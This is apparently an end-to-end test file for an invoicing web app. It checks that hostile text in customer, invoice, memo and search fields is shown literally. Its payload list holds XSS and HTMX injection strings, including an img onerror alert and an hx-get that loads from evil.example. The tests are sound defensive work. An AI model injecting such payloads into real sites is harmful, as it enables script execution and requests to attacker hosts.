"""Names, memos and reasons are text, whatever they look like: no markup, no script, no request comes of them."""

from __future__ import annotations

from playwright.sync_api import Page, expect

from e2e.witness import Witness
from e2e.world import World

TYPED = [
    "<img src=http://evil.example/1 onerror=alert(1)>",
    "<div hx-get=http://evil.example/2 hx-trigger=load>x</div>",
    "\"><script>alert(3)</script><svg onload=alert(3)>",
    "' hx-on:load='alert(4)' data-x='",
    "{{ 7 * 7 }} ${7*7} {% raw %} javascript:alert(5)",
]  # fmt: skip


def test_hostile_text_in_every_field_is_shown_as_it_was_typed(world: World, page: Page, witness: Witness) -> None:
    address = dict.fromkeys(("line1", "line2", "city", "state", "postal_code"), TYPED[0]) | {"country": "US"}
    for text in TYPED:
        customer = world.customer(name=text, billing_address=address, shipping_address=address)
        lines = [(text, 1, "5.00")]
        discount = {"discount_type": "percentage", "percentage_discount": 0.1, "reason": text}
        invoice = world.invoice(customer, lines=lines, memo=text, discount=discount)
        for url in (world.customer_url(customer), world.invoice_url(invoice)):
            page.goto(url)
            expect(page.get_by_role("main")).to_contain_text(text)
        page.locator("summary").first.click()
        expect(page.locator("section[id^='pf-line-']")).to_contain_text(text)

    assert witness.faults == []


def test_hostile_searches_are_shown_as_they_were_typed(world: World, page: Page, witness: Witness) -> None:
    customer = world.customer()
    world.invoice(customer)
    page.goto(world.customer_url(customer))
    history = page.locator("#pf-history")

    for text in TYPED:
        typed = text[:40]  # the field takes no more
        history.get_by_label("Number").fill(typed)
        with page.expect_response("**/invoices?*"):
            history.get_by_role("button", name="Find").click()
        expect(history.get_by_role("alert")).to_be_visible()
        expect(history.get_by_label("Number")).to_have_value(typed)

    assert witness.faults == []
